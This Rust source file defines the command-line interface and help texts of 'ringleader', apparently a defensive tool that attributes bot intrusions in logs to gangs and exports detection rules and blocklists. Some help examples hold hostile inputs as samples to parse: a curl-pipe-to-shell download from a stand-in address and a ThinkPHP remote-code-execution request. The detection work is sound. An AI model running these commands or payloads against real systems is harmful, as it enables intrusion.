//! The command line: one definition for parsing, `--help`, completions and the man page.

use std::path::PathBuf;

use clap::{Args as ClapArgs, Parser, Subcommand, ValueEnum};

use crate::args_hunt::{EXAMPLES as HUNT_EXAMPLES, HuntArgs};
use crate::args_ledger::{AllowCommand, CaseCommand, GangCommand, LedgerCommand, NotifyCommand, ReportArgs};

/// Finds the gang behind the bots: who attacked, how they got in, what they did.
#[derive(Debug, Parser)]
#[command(name = "ringleader", version, propagate_version = true, arg_required_else_help = true)]
#[command(after_long_help = "Start here:
  ringleader demo                          the main job on the sample that ships with the program
  ringleader run /var/log/export --out o   your own logs; the formats are recognised from their content
  ringleader explain GANG --out o          any claim, back to the raw lines that prove it
  ringleader doctor /var/log/export        what these logs can and cannot show")]
pub(crate) struct Args {
    #[command(subcommand)]
    pub command: Command,
}

#[derive(Debug, Subcommand)]
pub(crate) enum Command {
    /// Run the main job on the shipped sample
    #[command(after_long_help = "Example:\n  ringleader demo\n  ringleader demo --lang zh --out /tmp/demo")]
    Demo {
        /// Where the findings go
        #[arg(long, default_value = "ringleader-demo", value_name = "DIR")]
        out: PathBuf,
        /// Language of the reports for people
        #[arg(long, value_enum, default_value_t = Lang::En)]
        lang: Lang,
    },
    /// Turn log files into findings, in one go
    #[command(after_long_help = "Examples:
  ringleader run /var/log/export --out findings
  zcat day.ndjson.gz | ringleader run - --host web1 --out findings
  ringleader run logs/ --alert 192.0.2.7 --out findings      what has this address to do with?
  ringleader run today/ --registry yesterday/gangs.json --out today.findings
  ringleader run today/ --ledger ringleader.db --out today.findings     remembers gangs, warns of what is new
  ringleader run logs/ --fail-on-findings --json             for scripts: exit code 1 where a gang was found")]
    Run(RunArgs),
    /// Reconstruct one incident: who was scanned, attacked, taken; who was first, and what to do
    #[command(after_long_help = "Examples:
  ringleader spread logs/ artefacts/ --out incident
  ringleader spread logs/ --alert 192.168.0.3 --out incident          from a host, an address, a path or a hash
  ringleader spread logs/ --alert mail.txt --case case.toml --out incident
docs/incident.md walks through one. Files that were taken from a host stand in a folder of its name or address.")]
    Spread(SpreadArgs),
    /// Walk from any claim back to the raw lines that prove it
    #[command(
        after_long_help = "ID is a gang, campaign, episode, evidence or event id (the first characters are enough), an indicator, or a host.

Examples:
  ringleader explain 3f2a91c0 --out findings
  ringleader explain 203.0.113.7 --out findings
  ringleader explain web-07 --out findings"
    )]
    Explain {
        /// What to explain
        id: String,
        /// The findings folder
        #[arg(long, default_value = "findings", value_name = "DIR")]
        out: PathBuf,
        /// Machine-readable output
        #[arg(long)]
        json: bool,
    },
    /// Write the findings as other tools read them: STIX, MISP, Sigma, blocklists …
    #[command(
        after_long_help = "Victims' names, addresses and users are replaced by pseudonyms unless --tlp red; secrets are masked at any level.
Rules and blocklists are drafts: read them before a firewall or a sensor does. docs/exports.md has the formats.

Examples:
  ringleader export --list
  ringleader export stix misp --out findings --tlp amber --to shared
  ringleader export all --out findings --to shared
  ringleader export suricata --gang 3f2a91c0 --to - | suricata -T -S /dev/stdin
  ringleader export blocklist_csv --min-strength medium --to -"
    )]
    Export(ExportArgs),
    /// Say what these logs can and cannot show: formats, fields, loss, clocks, silence
    Doctor {
        #[command(flatten)]
        read: ReadArgs,
        /// Machine-readable output
        #[arg(long)]
        json: bool,
    },
    /// Find the indicators in each line of text; NDJSON out
    #[command(
        after_long_help = "Each line of input gives one line of output, at once: {\"line\": its number, \"indicators\": [{kind, value, context,
decoded}]}. Commands are read as a shell would read them and nothing is run; what is encoded, packed or hidden is read too,
and marked as decoded. docs/indicators.md has the kinds, the contexts and what is left out.

Examples:
  echo 'curl -s http://192.0.2.7/x.sh | sh' | ringleader extract
  ringleader extract dropper.sh | jq -r '.indicators[] | select(.context == \"downloaded\") | .value' | sort -u
  tail -f /var/log/auth.log | ringleader extract
  zcat access.log.gz | ringleader extract | jq -c 'select(.indicators != [])'"
    )]
    Extract {
        /// A text file; standard input where there is none
        file: Option<PathBuf>,
    },
    /// Name the attack method of each payload (a raw HTTP request, URL or command a line, or NDJSON); NDJSON out
    #[command(after_long_help = "Input is one payload a line, or NDJSON objects with a field `payload`.

Example:
  echo 'GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' | ringleader identify")]
    Identify {
        /// A text file; standard input where there is none
        file: Option<PathBuf>,
        /// A folder of further attack methods, such as accepted drafts
        #[arg(long, value_name = "DIR")]
        methods: Option<PathBuf>,
    },
    /// Read logs into a lake: resumable, exactly once
    Ingest {
        #[command(flatten)]
        read: ReadArgs,
        /// The lake's folder
        #[arg(long, value_name = "DIR")]
        lake: PathBuf,
    },
    /// Turn what is in a lake into findings
    Analyze {
        /// The lake's folder
        #[arg(long, value_name = "DIR")]
        lake: PathBuf,
        /// Only events from this time on (RFC 3339)
        #[arg(long, value_name = "T")]
        since: Option<String>,
        /// Only events before this time (RFC 3339)
        #[arg(long, value_name = "T")]
        until: Option<String>,
        #[command(flatten)]
        output: OutputArgs,
        #[command(flatten)]
        record: RecordArgs,
        #[command(flatten)]
        resources: ResourceArgs,
    },
    /// Ask a lake: ready questions, or SQL that can only read
    #[command(after_long_help = HUNT_EXAMPLES)]
    Hunt(HuntArgs),
    /// What is remembered of gangs, and what analysts decide: names, merges, splits, dismissals
    #[command(
        subcommand,
        after_long_help = "Decisions are kept apart from what is computed, and can be taken back: docs/ledger.md.

Examples:
  ringleader gang list
  ringleader gang name 3f2a91c0 'Red Rake' --why 'same wallet as in the report of May'
  ringleader gang merge 'Red Rake' 91bb02aa --why 'same key, seen on a seized server'
  ringleader gang undo 7 --why 'the key was planted'"
    )]
    Gang(GangCommand),
    /// What is honest here, until when, and why: indicators, commands, hosts
    #[command(
        subcommand,
        after_long_help = "Examples:
  ringleader allow indicator mirror.example --until 2026-12-31 --why 'our package mirror'
  ringleader allow host-group 'ci-*' --until 2026-09-01 --why 'build machines fetch and run all day'
  ringleader allow list"
    )]
    Allow(AllowCommand),
    /// What a team works on: gangs and hosts with notes and an outcome
    #[command(subcommand)]
    Case(CaseCommand),
    /// Send warnings to chats, mail, webhooks and SIEMs
    #[command(
        subcommand,
        after_long_help = "`run` and `analyze` with --ledger and --notify put warnings into the ledger's outbox; `notify send` sends them, at
least once. docs/notify.md has the channels.

Examples:
  ringleader notify test ops
  ringleader run today/ --ledger ringleader.db --notify notify.toml && ringleader notify send"
    )]
    Notify(NotifyCommand),
    /// What a week, a month or a quarter came to: rise and fall, new ways in, infrastructure, victims
    #[command(
        after_long_help = "From the ledger alone: days that `run` or `analyze` recorded with --ledger. docs/trends.md says how each number is counted.

Examples:
  ringleader report --period month --out april
  ringleader report --period week --from 2026-04-06 --lang zh
  ringleader report --period quarter --gang 'Red Rake' --out rake"
    )]
    Report(ReportArgs),
    /// The ledger itself: state, backup, places of hosts
    #[command(subcommand)]
    Ledger(LedgerCommand),
    /// Write a synthetic process log whose truth is known
    #[command(
        after_long_help = "A fleet of Linux servers at work, and nine gangs that break into it in waves. A seed gives the same bytes
everywhere. Where lost events are asked for, the sensor misses them: the log lacks them, the truth has them.
docs/simulate.md has the columns of the truth's three tables (TRUTH, and beside it .incidents.tsv and .bots.tsv).

Examples:
  ringleader simulate --events 1000000 --out log.ndjson --truth log.truth.tsv
  ringleader simulate --events 1000000 --loss 300 --loss-model short-lived --out log.ndjson --truth log.truth.tsv
  ringleader run log.ndjson --processes --out findings && ringleader score log.truth.tsv findings --log log.ndjson
  ringleader simulate --incident ssh --hosts 200 --missing 300 --seed 7 --out case --truth case.truth.tsv
  ringleader spread case --out findings && ringleader score --incident case.truth.tsv findings --log case"
    )]
    Simulate(SimulateArgs),
    /// Measure findings against the truth of a synthetic log
    #[command(
        after_long_help = "Parent links, events of bots, incidents and gangs, repairs, compression: how right the findings are, and with
--log what a short script of an analyst finds in the same log. docs/score.md says what each figure means.

Examples:
  ringleader score log.truth.tsv findings
  ringleader score log.truth.tsv findings --log log.ndjson --json
  ringleader score --incident case.truth.tsv findings --log case"
    )]
    Score {
        /// The truth, as `simulate --truth` writes it
        truth: PathBuf,
        /// The findings folder, made with `run --processes`
        findings: PathBuf,
        /// The log, or the folder of an incident's logs: to measure a plain baseline beside
        #[arg(long, value_name = "LOG")]
        log: Option<PathBuf>,
        /// The truth is an incident's, the findings are of `spread` (told by the files themselves, too)
        #[arg(long)]
        incident: bool,
        /// Machine-readable output
        #[arg(long)]
        json: bool,
    },
    /// Attack methods that nobody has named yet
    #[command(
        subcommand,
        after_long_help = "Hostile requests that no known method explains are gathered by where they go. Each draft is a file that works as it is:
look at the examples in it, give it a name, a product and a CVE, and put it in the folder that you give as --methods.

Examples:
  ringleader methods draft /var/log/nginx --out drafts
  ringleader methods draft --from findings --out drafts          the logs that those findings were made from
  ringleader run logs/ --methods my-methods --out findings"
    )]
    Methods(MethodsCommand),
    /// List what is built in
    List {
        #[arg(value_enum)]
        what: Listed,
        /// With the rules of this folder; those that cannot be used stand last, with the reason
        #[arg(long, value_name = "DIR")]
        rules: Option<PathBuf>,
        /// With the attack methods of this folder
        #[arg(long, value_name = "DIR")]
        methods: Option<PathBuf>,
        /// Machine-readable output
        #[arg(long)]
        json: bool,
    },
    /// Print shell completions
    #[command(
        after_long_help = "Example:\n  ringleader completions bash > ~/.local/share/bash-completion/completions/ringleader"
    )]
    Completions { shell: clap_complete::Shell },
    /// Print the man page
    #[command(after_long_help = "Example:\n  ringleader man | man -l -")]
    Man,
}

#[derive(Debug, Subcommand)]
pub(crate) enum MethodsCommand {
    /// Write a draft for each new method that is seen in logs
    Draft {
        /// Log files and folders
        #[arg(value_name = "INPUT", required_unless_present = "from")]
        inputs: Vec<String>,
        /// A findings folder: the logs it was made from are read again
        #[arg(long, value_name = "FINDINGS")]
        from: Option<PathBuf>,
        /// Where the drafts go
        #[arg(long, value_name = "DIR")]
        out: PathBuf,
        /// A folder of methods that are known besides those that are built in
        #[arg(long, value_name = "DIR")]
        methods: Option<PathBuf>,
        /// Requests of a draft at least
        #[arg(long, default_value_t = 1, value_name = "N")]
        least: u64,
        /// Machine-readable output
        #[arg(long)]
        json: bool,
        #[command(flatten)]
        resources: ResourceArgs,
    },
}

#[derive(Debug, ClapArgs)]
pub(crate) struct RunArgs {
    #[command(flatten)]
    pub read: ReadArgs,
    #[command(flatten)]
    pub output: OutputArgs,
    #[command(flatten)]
    pub record: RecordArgs,
    /// Start from an alert: a file of any format, or an indicator (address, URL, path, hash)
    #[arg(long, value_name = "FILE|INDICATOR")]
    pub alert: Option<String>,
}

#[derive(Debug, ClapArgs)]
pub(crate) struct ExportArgs {
    /// Formats, as `--list` names them; `all` for every one
    #[arg(required_unless_present = "list", value_name = "FORMAT")]
    pub formats: Vec<String>,
    /// List the formats
    #[arg(long)]
    pub list: bool,
    /// The findings folder
    #[arg(long, default_value = "findings", value_name = "DIR")]
    pub out: PathBuf,
    /// Where the files go; - writes the one format to standard output
    #[arg(long, default_value = "exports", value_name = "DIR")]
    pub to: PathBuf,
    /// Only this gang, by name or the first characters of its id; may be repeated
    #[arg(long, value_name = "GANG")]
    pub gang: Vec<String>,
    /// How far it may travel, by the Traffic Light Protocol 2.0; victims are named at red alone
    #[arg(long, value_name = "LEVEL", default_value = "amber+strict", value_parser = ["clear", "green", "amber", "amber+strict", "red"])]
    pub tlp: String,
    /// Of blocklists and rules: the weakest indicators that they take
    #[arg(long, value_name = "STRENGTH", default_value = "strong", value_parser = ["strong", "medium", "weak"])]
    pub min_strength: String,
    /// With --list: machine-readable output
    #[arg(long)]
    pub json: bool,
}

#[derive(Debug, ClapArgs)]
pub(crate) struct SpreadArgs {
    #[command(flatten)]
    pub read: ReadArgs,
    #[command(flatten)]
    pub output: OutputArgs,
    /// Start from an alert: a file of any format, or a host, address, path or hash
    #[arg(long, value_name = "FILE|INDICATOR")]
    pub alert: Vec<String>,
    /// What is known of the case: window, seeds, known-good hosts, decisions (docs/incident.md)
    #[arg(long, value_name = "FILE")]
    pub case: Option<PathBuf>,
}

#[derive(Debug, ClapArgs)]
pub(crate) struct SimulateArgs {
    /// One incident instead, host to host: a folder of logs through which a worm of this kind goes
    #[arg(long, value_enum, value_name = "WORM", num_args = 0..=1, default_missing_value = "smb")]
    pub incident: Option<WormKind>,
    /// A month instead, with a log for each day: twelve gangs, of which some begin, change their way in, fall silent, surge.
    /// A folder, with a fleet of 200 hosts where --hosts says nothing else
    #[arg(long, value_name = "DAYS", num_args = 0..=1, default_missing_value = "30", conflicts_with = "incident", value_parser = clap::value_parser!(u64).range(1..=366))]
    pub month: Option<u64>,
    /// Of a month: ordinary days before anything changes
    #[arg(long, default_value_t = 0, value_name = "DAYS", requires = "month", value_parser = clap::value_parser!(u64).range(0..=366))]
    pub lead: u64,
    /// Of an incident: how many of a thousand records nobody has, half of it whole hosts and subnets
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", requires = "incident", value_parser = clap::value_parser!(u32).range(0..=900))]
    pub missing: u32,
    /// Of an incident: flows for each process of ordinary work
    #[arg(long, default_value_t = 2, value_name = "N", requires = "incident", value_parser = clap::value_parser!(u64).range(0..=1000))]
    pub flows: u64,
    /// Events in the log; lost ones come on top [default: 1000000; of an incident, 240 a host]
    #[arg(long, value_name = "N", value_parser = clap::value_parser!(u64).range(1..=1_000_000_000_000))]
    pub events: Option<u64>,
    /// Hosts of the fleet [default: one for each 2,500 events]
    #[arg(long, value_name = "N", value_parser = clap::value_parser!(u64).range(8..=1 << 22))]
    pub hosts: Option<u64>,
    /// What everything is drawn from
    #[arg(long, default_value_t = 1, value_name = "N")]
    pub seed: u64,
    /// How many of a thousand events the sensor misses
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", value_parser = clap::value_parser!(u32).range(0..=900))]
    pub loss: u32,
    /// Which events it misses
    #[arg(long, value_enum, default_value_t = LossModel::Uniform, value_name = "MODEL")]
    pub loss_model: LossModel,
    /// How many of a thousand events are the gangs'
    #[arg(long, default_value_t = 15, value_name = "PERMILLE", value_parser = clap::value_parser!(u64).range(0..=500))]
    pub bots: u64,
    /// How many of a thousand incidents have servers, wallet, key and pool of their own
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", value_parser = clap::value_parser!(u32).range(0..=1000))]
    pub one_off: u32,
    /// How many of a thousand events come twice; copies come on top
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", value_parser = clap::value_parser!(u32).range(0..=1000))]
    pub duplicate: u32,
    /// How late events may come: one in ten as much, the others up to two seconds
    #[arg(long, default_value_t = 0, value_name = "SECONDS", value_parser = clap::value_parser!(u32).range(0..=86_400))]
    pub disorder: u32,
    /// How far a host's clock may be off, either way
    #[arg(long, default_value_t = 0, value_name = "SECONDS", value_parser = clap::value_parser!(u32).range(0..=86_400))]
    pub skew: u32,
    /// How many events a second of one host its sensor keeps; 0 keeps all
    #[arg(long, default_value_t = 0, value_name = "N")]
    pub rate_limit: u32,
    /// How many of a thousand hosts are silent for an hour
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", value_parser = clap::value_parser!(u32).range(0..=1000))]
    pub outage: u32,
    /// How many of a thousand Linux hosts have no more than 4,096 pids
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", value_parser = clap::value_parser!(u32).range(0..=1000))]
    pub small_pids: u32,
    /// How many of a thousand hosts run Windows, with gangs of their own
    #[arg(long, default_value_t = 0, value_name = "PERMILLE", value_parser = clap::value_parser!(u32).range(0..=1000))]
    pub windows: u32,
    /// Adds gangs with another's kit and infrastructure and names of their own
    #[arg(long)]
    pub copycats: bool,
    /// Adds two gangs that hunt each other by name
    #[arg(long)]
    pub rivals: bool,
    /// Adds a gang that comes to 60% of the hosts
    #[arg(long)]
    pub widespread: bool,
    /// Adds a gang that shows so many values of others and popular sites
    #[arg(long, default_value_t = 0, value_name = "N", value_parser = clap::value_parser!(u32).range(0..=10_000))]
    pub planted: u32,
    /// Adds honest work that looks like a bot's
    #[arg(long)]
    pub herrings: bool,
    /// Where the log goes; - is standard output. Of an incident, a folder
    #[arg(long, value_name = "LOG")]
    pub out: PathBuf,
    /// Where the truth goes
    #[arg(long, value_name = "TRUTH")]
    pub truth: Option<PathBuf>,
}

/// How inputs are read.
#[derive(Debug, ClapArgs)]
pub(crate) struct ReadArgs {
    /// Files, folders (walked), archives (gz, zst, zip, tar), or - for standard input
    #[arg(required = true, value_name = "INPUT")]
    pub inputs: Vec<String>,
    /// Read every input as this format instead of recognising it (see `list formats`)
    #[arg(long, value_name = "NAME")]
    pub format: Option<String>,
    /// The host of records that name none; else the file's name
    #[arg(long, value_name = "NAME")]
    pub host: Option<String>,
    /// The tenant of records that name none
    #[arg(long, default_value = "", value_name = "NAME", hide_default_value = true)]
    pub tenant: String,
    /// Zone of times that name none
    #[arg(long, default_value = "+00:00", value_name = "±HH:MM", allow_hyphen_values = true)]
    pub timezone: String,
    /// Year of syslog times, which have none [default: this year]
    #[arg(long, value_name = "YYYY")]
    pub year: Option<i32>,
    #[command(flatten)]
    pub resources: ResourceArgs,
}

#[derive(Debug, ClapArgs)]
pub(crate) struct ResourceArgs {
    /// Worker threads [default: all cores]
    #[arg(long, value_name = "N")]
    pub threads: Option<usize>,
    /// Memory for events before they go to disk, as 512M or 4G [default: a quarter of the machine]
    #[arg(long, value_name = "SIZE")]
    pub memory: Option<String>,
}

/// What is remembered.
#[derive(Debug, Default, ClapArgs)]
pub(crate) struct RecordArgs {
    /// Remember this run, and apply what was decided: a file, or postgres://user@host/database
    #[arg(long, env = "RINGLEADER_LEDGER", value_name = "PATH|URL", hide_env_values = true)]
    pub ledger: Option<String>,
    /// Put warnings into the outbox for these channels (docs/notify.md)
    #[arg(long, env = "RINGLEADER_NOTIFY", value_name = "FILE", hide_env_values = true)]
    pub notify: Option<PathBuf>,
    /// Warnings a day that are sent; others are written and held
    #[arg(long, default_value_t = 20, value_name = "N", requires = "ledger")]
    pub budget: usize,
    /// Days without a sign after which a gang counts as dormant
    #[arg(long, default_value_t = 14, value_name = "DAYS", requires = "ledger", value_parser = clap::value_parser!(i64).range(1..=3650))]
    pub dormant_days: i64,
}

/// What comes out.
#[derive(Debug, ClapArgs)]
pub(crate) struct OutputArgs {
    /// The findings folder
    #[arg(long, default_value = "findings", value_name = "DIR")]
    pub out: PathBuf,
    /// Language of the reports for people
    #[arg(long, value_enum, default_value_t = Lang::En)]
    pub lang: Lang,
    /// Also write processes.parquet: a row for every process event read
    #[arg(long)]
    pub processes: bool,
    /// gangs.json of an earlier run: known gangs keep their ids, new methods give warnings
    #[arg(long, value_name = "FILE")]
    pub registry: Option<PathBuf>,
    /// A folder of further Sigma rules, SigmaHQ's as it is; what cannot be used of it is told
    #[arg(long, value_name = "DIR")]
    pub rules: Option<PathBuf>,
    /// A folder of further attack methods, such as accepted drafts; one of a known id replaces it
    #[arg(long, value_name = "DIR")]
    pub methods: Option<PathBuf>,
    /// What others know: a STIX bundle, a MISP event or a plain list, to name gangs by; may be repeated
    #[arg(long, value_name = "FILE")]
    pub intel: Vec<PathBuf>,
    /// How far these files are trusted, 0 to 100
    #[arg(long, default_value_t = 70, value_name = "PERCENT", requires = "intel", value_parser = clap::value_parser!(u8).range(0..=100))]
    pub intel_confidence: u8,
    /// Which hosts are decoys, and what they pretend to be: docs/honeynet.md has the fields
    #[arg(long, value_name = "FILE")]
    pub sensors: Option<PathBuf>,
    /// Exit with code 1 where a gang was found
    #[arg(long)]
    pub fail_on_findings: bool,
    /// Print summary.json instead of the summary for people
    #[arg(long)]
    pub json: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Lang {
    En,
    Zh,
}

/// What goes through an incident's network.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum WormKind {
    Smb,
    Ssh,
    Redis,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum LossModel {
    /// All alike
    Uniform,
    /// Short-lived processes more often, those that wait for others less
    ShortLived,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Listed {
    Formats,
    Behaviours,
    Methods,
    Gangs,
}
